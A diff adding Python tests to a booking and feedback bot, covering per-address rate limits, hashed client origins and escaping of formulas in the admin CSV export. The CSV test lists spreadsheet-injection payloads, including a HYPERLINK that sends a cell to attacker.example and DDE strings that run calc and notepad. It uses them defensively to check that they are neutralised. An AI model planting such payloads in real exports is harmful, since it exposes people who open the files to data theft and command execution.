@@ -256,3 +256,100 @@ async def test_no_session_credential_in_the_access_log(
     lines = [r.getMessage() for r in caplog.records if r.name == "aiohttp.access"]
     assert any("/api/inbox" in line for line in lines)
     assert not any(token in line for line in lines)
+
+
+PROXY = {"web.trusted_proxies": ["127.0.0.1"]}
+
+
+async def book_first_place(
+    http: aiohttp.ClientSession, server: Server, client: str
+) -> list[dict[str, Any]]:
+    """A new web session books the first offered place of the first office, day and slot."""
+    via = {"X-Forwarded-For": client}
+    _, replies = await post(http, server, {"text": GUIDE_TEXT}, **via)
+    for prefix in ("pick:", "go:booking.start", "office:", "day:", "slot:", "go:booking.book"):
+        payloads = [b["payload"] for r in replies for b in r["buttons"]]
+        chosen = [p for p in payloads if p.startswith(prefix)]
+        if prefix == "pick:" and not chosen:
+            continue
+        assert chosen, (prefix, payloads)
+        _, replies = await post(http, server, {"button": chosen[0]}, **via)
+    return replies
+
+
+async def test_bookings_are_limited_per_client_address_and_office_day(tmp_path: Path) -> None:
+    cfg = bot_config(tmp_path, **PROXY, **{"booking.max_per_client_day": 2})
+    async with running(cfg) as server:
+        texts = []
+        for _ in range(3):  # three throw-away sessions from one address
+            async with web_client() as http:
+                replies = await book_first_place(http, server, "203.0.113.50")
+                texts.append(replies[0]["text"])
+        assert "Mã" in texts[0] or "mã" in texts[0]
+        assert "Từ thiết bị/mạng này đã có 2 lịch hẹn" in texts[2]
+        async with web_client() as http:  # someone else still books
+            replies = await book_first_place(http, server, "198.51.100.77")
+            assert "Từ thiết bị/mạng này" not in replies[0]["text"]
+        db = server.store.engine  # type: ignore[attr-defined]
+        with db.connect() as conn:
+            origins = conn.execute(text("SELECT origin FROM booking ORDER BY id")).scalars().all()
+        assert len(origins) == 3 and origins[0] == origins[1] != origins[2]
+        assert not any("203.0.113" in o for o in origins)  # a keyed hash, not the address
+
+
+async def test_feedback_is_limited_per_client_address(tmp_path: Path) -> None:
+    cfg = bot_config(tmp_path, **PROXY, **{"feedback.max_per_client_hour": 3})
+    async with running(cfg) as server:
+        answers = []
+        for _ in range(5):
+            async with web_client() as http:
+                via = {"X-Forwarded-For": "203.0.113.51"}
+                await post(http, server, {"text": ""}, **via)
+                _, replies = await post(http, server, {"text": "/start fb-phuong-viet-hung"}, **via)
+                if any(b["payload"] == "rate:1" for r in replies for b in r["buttons"]):
+                    _, replies = await post(http, server, {"button": "rate:1"}, **via)
+                answers.append(" ".join(r["text"] for r in replies))
+        limited = ["thử lại sau ít phút" in a for a in answers]
+        assert limited == [False, False, False, True, True]
+        db = server.store.engine  # type: ignore[attr-defined]
+        with db.connect() as conn:
+            assert conn.execute(text("SELECT count(*) FROM feedback_response")).scalar_one() == 3
+
+
+async def test_feedback_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    import datetime as dt
+
+    from bot.feedback.report import ResponseRow
+    from bot.feedback.store import FeedbackStore
+
+    hostile = [
+        '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C notepad'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    cfg = bot_config(tmp_path, **{"admin.token": TOKEN})
+    async with running(cfg) as server, aiohttp.ClientSession() as http:
+        store = FeedbackStore(server.store.engine)  # type: ignore[attr-defined]
+        for comment in hostile:
+            store.add(
+                ResponseRow(
+                    created_at=dt.datetime.now(dt.UTC), office="=cmd", procedure="khai-sinh",
+                    overall=3, groups=(3, 3, 3, 3, 3), comment=comment,
+                )
+            )
+        bearer = {"Authorization": f"Bearer {TOKEN}"}
+        async with http.get(url(server, "/admin/feedback.csv"), headers=bearer) as resp:
+            assert resp.status == 200
+            body = (await resp.read()).decode("utf-8-sig")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(body)))[1:]
+    assert len(rows) == len(hostile)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert {row[-2] for row in rows} == {"'" + c for c in hostile}
